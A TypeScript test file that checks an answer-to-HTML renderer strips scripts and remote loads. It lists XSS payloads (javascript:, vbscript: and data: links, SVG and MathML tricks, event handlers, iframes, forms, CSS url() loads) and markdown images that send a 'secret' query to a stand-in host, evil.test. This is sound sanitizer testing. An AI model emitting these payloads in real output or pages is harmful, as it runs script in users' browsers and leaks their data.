import { INJECTION_SAMPLES } from '@caseloom/testkit/prompt-injection-samples'
import { describe, expect, it } from 'vitest'
import { answerHtml } from './answer-html.ts'

const HOSTILE = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&#58;alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](vbscript:msgbox)',
  '<javascript:alert(1)>',
  '![p](https://evil.test/p.png?q=secret)',
  '![p][x]\n\n[x]: https://evil.test/p.png',
  '<img src="https://evil.test/p.png">',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>',
  '<form action="https://evil.test"><input name="q"><button>Go</button></form>',
  '<style>body{background:url(https://evil.test)}</style>',
  '<p style="background:url(https://evil.test)">x</p>',
  '<link rel="stylesheet" href="https://evil.test"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<video src="https://evil.test" poster="https://evil.test"></video>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
]

describe('an answer as HTML', () => {
  it.each([...INJECTION_SAMPLES, ...HOSTILE])('neither scripts nor loads anything: %s', (text) => {
    for (const place of [
      text,
      `- ${text}`,
      `| a |\n| --- |\n| ${text.replaceAll('\n', ' ')} |`,
      `**${text}**`,
    ]) {
      const html = answerHtml(place)
      const tags = html.match(/<[^>]*>/g) ?? []
      expect(tags.join(' '), html).not.toMatch(
        /script|<(?:img|svg|iframe|object|form|style|link|meta|video)|\bon\w+=/i,
      )
      expect(tags.join(' '), html).not.toMatch(/\b(?:src|style|action|poster|data|xlink:href)=/i)
      for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g))
        expect(href, html).toMatch(/^(?:https?:\/\/|mailto:|\/(?!\/))/)
    }
  })
})
